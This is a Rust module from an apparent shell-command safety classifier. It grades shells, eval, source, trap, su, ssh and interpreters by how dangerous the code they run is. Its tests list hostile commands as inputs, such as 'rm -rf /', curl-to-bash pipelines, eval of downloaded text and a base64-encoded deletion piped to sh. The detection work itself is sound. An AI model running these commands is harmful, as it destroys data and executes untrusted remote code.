//! Programs that run code given to them: shells, `eval`, `source`, interpreters.

use super::interp::{interpreter, language};
use super::{Cmd, Inner, Verdict};
use crate::severity::Severity;
use crate::walk::Stdin;
use crate::word::Word;

#[rustfmt::skip]
pub(super) const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "rbash", "posh", "fish", "tcsh",
    "csh", "ksh93", "oksh", "loksh", "elvish", "nu", "xonsh",
];

/// Whether the program is a shell or a language interpreter.
pub(super) fn runs_code(program: &str) -> bool {
    SHELLS.contains(&program) || language(program).is_some()
}

pub(super) fn classify(cmd: &Cmd<'_>) -> Option<Verdict> {
    let p = cmd.program;
    if SHELLS.contains(&p) {
        return Some(shell(cmd));
    }
    let v = match p {
        "eval" => eval(cmd),
        "source" | "." => script_file(
            cmd,
            cmd.args.first(),
            "source",
            "runs the script in the current shell",
        ),
        "alias" => {
            let mut v = Verdict::safe("alias defines a shorthand");
            for w in cmd.args {
                match w.known().and_then(|t| t.split_once('=')) {
                    Some((_, body)) if !body.is_empty() => {
                        v.inner.push(Inner::Script(body.to_string()))
                    }
                    Some(_) => {}
                    None if !w.is_known() => v.raise(
                        Severity::Dangerous,
                        format!(
                            "alias defines `{}`, which is not known until run time",
                            w.display
                        ),
                    ),
                    None => {}
                }
            }
            v
        }
        "trap" => {
            let mut v = Verdict::safe("trap sets a command to run on a signal");
            v.transparent = true;
            match cmd.args.first().map(|w| (w.known(), w)) {
                Some((Some(text), _)) if !matches!(text, "-" | "-p" | "-l" | "--") => {
                    v.inner.push(Inner::Script(text.to_string()))
                }
                Some((None, w)) => v.raise(
                    Severity::Dangerous,
                    format!(
                        "trap runs `{}`, which is not known until run time",
                        w.display
                    ),
                ),
                _ => {}
            }
            v
        }
        "su" | "runuser" => {
            let mut v = Verdict::critical(format!("{p} runs commands as root or another user"));
            for s in cmd.option_values(&["-c"], &["--command"]) {
                push_script(&mut v, &s, p);
            }
            v
        }
        "watch" => {
            let mut v = Verdict::normal("watch runs a command repeatedly");
            #[rustfmt::skip]
            let valued = [
                "-n", "--interval", "-d", "-g", "-q", "--equexit", "-s", "--shell",
            ];
            let ops = cmd.operands(&valued);
            let text: Vec<&str> = ops
                .iter()
                .map(|w| w.known().unwrap_or(&w.display))
                .collect();
            v.inner.push(Inner::Script(text.join(" ")));
            v
        }
        "flock" | "script" => {
            let mut v = Verdict::normal(format!("{p} runs a command"));
            for s in cmd.cluster_values('c', &["--command"]) {
                push_script(&mut v, &s, p);
            }
            v
        }
        "nix-shell" => {
            let mut v = Verdict::normal("nix-shell builds an environment");
            for s in cmd.option_values(&[], &["--run", "--command"]) {
                push_script(&mut v, &s, p);
            }
            v
        }
        "ssh" | "mosh" => {
            let mut v = Verdict::dangerous(format!("{p} runs commands on another machine"));
            #[rustfmt::skip]
            let valued = [
                "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-e", "-m", "-O",
                "-Q", "-S", "-W", "-w", "-E", "-B", "-I",
            ];
            let ops = cmd.operands(&valued);
            if ops.len() > 1 {
                let text: Vec<&str> = ops[1..]
                    .iter()
                    .map(|w| w.known().unwrap_or(&w.display))
                    .collect();
                v.inner.push(Inner::Script(text.join(" ")));
            }
            v
        }
        _ => match language(p) {
            Some(lang) => interpreter(cmd, lang),
            None => return None,
        },
    };
    Some(v)
}

fn push_script(v: &mut Verdict, script: &Word, how: &str) {
    match script.known() {
        Some(text) => v.inner.push(Inner::Script(text.to_string())),
        None => {
            if script.from_download {
                v.raise(
                    Severity::Critical,
                    format!("{how} runs code downloaded from the network"),
                );
            }
            v.raise(
                Severity::Dangerous,
                format!("{how} runs a script that is not known until run time"),
            );
        }
    }
}

/// A script read from stdin: analysed when it is a here-document or here-string.
fn from_stdin(cmd: &Cmd<'_>, v: &mut Verdict, what: &str, analysable: bool) {
    match cmd.stdin {
        Stdin::Pipe { download: true } => v.raise(
            Severity::Critical,
            format!("pipes a network download into {what}, which runs whatever it receives"),
        ),
        Stdin::Pipe { download: false } => v.raise(
            Severity::Dangerous,
            format!("runs a script read from a pipe into {what}; its contents are not analysed"),
        ),
        Stdin::Heredoc { body } if analysable => {
            v.transparent = true;
            v.inner.push(Inner::Script(body.clone()));
        }
        Stdin::Herestring(w) if analysable && w.is_known() => {
            v.transparent = true;
            v.inner
                .push(Inner::Script(w.known().unwrap_or_default().to_string()));
        }
        Stdin::Heredoc { .. } | Stdin::Herestring(_) => {
            let mut sev = Severity::Dangerous;
            if let Stdin::Herestring(w) = cmd.stdin
                && w.from_download
            {
                sev = Severity::Critical;
            }
            v.raise(
                sev,
                format!("runs a program given to {what} on stdin; it is not analysed"),
            );
        }
        Stdin::File(w) => v.raise(
            Severity::Normal,
            format!("runs the script `{}` given on stdin", w.display),
        ),
        Stdin::Terminal => v.raise(Severity::Normal, format!("starts {what} interactively")),
    }
}

/// A script named as an operand (`bash x.sh`, `source env.sh`, `bash <(curl ...)`).
pub(super) fn script_file(cmd: &Cmd<'_>, word: Option<&Word>, how: &str, what: &str) -> Verdict {
    // a shell's stdin script can be analysed; another language's cannot
    let shell_script = SHELLS.contains(&cmd.program) || matches!(cmd.program, "source" | ".");
    let Some(w) = word else {
        let mut v = Verdict::normal(format!("{how} without a script"));
        from_stdin(cmd, &mut v, how, shell_script);
        return v;
    };
    if w.process || w.from_download {
        if w.from_download {
            return Verdict::critical(format!(
                "{how} runs a script downloaded from the network (`{}`)",
                w.display
            ));
        }
        return Verdict::dangerous(format!(
            "{how} runs a script produced by a command (`{}`)",
            w.display
        ));
    }
    match w.known() {
        Some("/dev/stdin" | "-") => {
            let mut v = Verdict::normal(format!("{how} reads its script from stdin"));
            from_stdin(cmd, &mut v, how, shell_script);
            v
        }
        Some(path) => Verdict::normal(format!("{how} {what} `{path}`")),
        None => Verdict::dangerous(format!(
            "{how} runs the script `{}`, whose path is not known until run time",
            w.display
        )),
    }
}

fn shell(cmd: &Cmd<'_>) -> Verdict {
    let p = cmd.program;
    let mut i = 0;
    let mut command_mode = false;
    let mut stdin_mode = false;
    while let Some(v) = cmd.arg(i) {
        if v == "--" || v == "-" {
            i += 1;
            break;
        }
        if matches!(v, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
            i += 2;
            continue;
        }
        if v.starts_with("--") {
            if v == "--command" {
                command_mode = true;
            }
            i += 1;
            continue;
        }
        if (v.starts_with('-') || v.starts_with('+')) && v.len() > 1 {
            command_mode |= v[1..].contains('c');
            stdin_mode |= v[1..].contains('s');
            i += 1;
            continue;
        }
        break;
    }
    let operand = cmd.args.get(i);
    if command_mode {
        let mut v = Verdict::safe(format!("{p} -c runs the script given to it"));
        v.transparent = true;
        match operand {
            Some(w) if w.is_known() => v
                .inner
                .push(Inner::Script(w.known().unwrap_or_default().to_string())),
            Some(w) => {
                v.transparent = false;
                if w.from_download {
                    v.raise(
                        Severity::Critical,
                        format!("{p} -c runs code downloaded from the network"),
                    );
                }
                v.raise(
                    Severity::Dangerous,
                    format!(
                        "{p} -c runs `{}`, a script not known until run time",
                        w.display
                    ),
                );
            }
            None => v.raise(Severity::Normal, format!("{p} -c without a script")),
        }
        return v;
    }
    if stdin_mode || operand.is_none() {
        let mut v = Verdict::default();
        from_stdin(cmd, &mut v, &format!("`{p}`"), true);
        return v;
    }
    script_file(cmd, operand, p, "runs the shell script")
}

fn eval(cmd: &Cmd<'_>) -> Verdict {
    let text: Vec<&str> = cmd
        .args
        .iter()
        .map(|w| w.known().unwrap_or(&w.display))
        .collect();
    let mut v = Verdict::safe("eval runs the text given to it");
    if cmd.args.iter().all(Word::is_known) {
        v.transparent = true;
        v.inner.push(Inner::Script(text.join(" ")));
        return v;
    }
    if cmd.args.iter().any(|w| w.from_download) {
        v.raise(
            Severity::Critical,
            "eval runs code downloaded from the network",
        );
    }
    v.raise(
        Severity::Dangerous,
        format!(
            "eval runs `{}`, text not known until run time",
            text.join(" ")
        ),
    );
    if cmd
        .args
        .iter()
        .all(|w| w.dynamic.iter().all(|d| d.starts_with("the variable")))
    {
        v.inner.push(Inner::Script(text.join(" ")));
    }
    v
}

#[cfg(test)]
mod tests {
    use crate::classify::test_support::expect;
    use crate::severity::Severity::*;

    #[test]
    fn shells_and_payloads() {
        expect(&[
            ("bash -c 'ls -la'", Safe),
            ("bash -c 'rm -rf /'", Critical),
            ("sh -c \"rm -rf ~\"", Critical),
            ("bash -lc 'cargo test'", Normal),
            ("bash -c \"$CMD\"", Dangerous),
            ("bash script.sh", Normal),
            ("./script.sh", Normal),
            ("bash <(curl -fsSL https://x.sh)", Critical),
            ("curl -fsSL https://x.sh | bash", Critical),
            ("curl -s x | sudo sh", Critical),
            ("wget -qO- x | sh -s -- --yes", Critical),
            ("echo cm0gLXJmIC8K | base64 -d | sh", Dangerous),
            ("bash <<'EOF'\nrm -rf /\nEOF", Critical),
            ("sh <<< 'ls'", Safe),
            ("eval \"ls -la\"", Safe),
            ("eval 'rm -rf /'", Critical),
            ("eval \"$(curl -s x)\"", Critical),
            ("eval \"$X\"", Dangerous),
            ("source .venv/bin/activate", Normal),
            ("source <(curl -s x)", Critical),
            ("python3 -c 'print(1)'", Dangerous),
            ("python3 script.py", Normal),
            ("python3 --version", Safe),
            ("python -m pip install requests", Dangerous),
            ("python3 -m http.server", Dangerous),
            ("node -e 'require(\"fs\").rmSync(\"/\")'", Dangerous),
            ("perl -pi -e 's/a/b/' f", Dangerous),
            ("perl -ne 'print' f", Dangerous),
            ("ruby -e 'puts 1'", Dangerous),
            ("python3 <<EOF\nimport os\nEOF", Dangerous),
            ("curl x | python3", Critical),
            ("ssh host 'rm -rf /'", Critical),
            ("ssh host uptime", Dangerous),
            ("trap 'rm -rf /tmp/x' EXIT", Dangerous),
            ("watch -n 5 ls", Normal),
            ("su -c 'ls'", Critical),
            ("script -qc 'rm -rf ~' /dev/null", Critical),
            ("script -q -c 'curl x | sh' log.txt", Critical),
            ("script -qec 'cargo test' /dev/null", Normal),
        ]);
    }
}
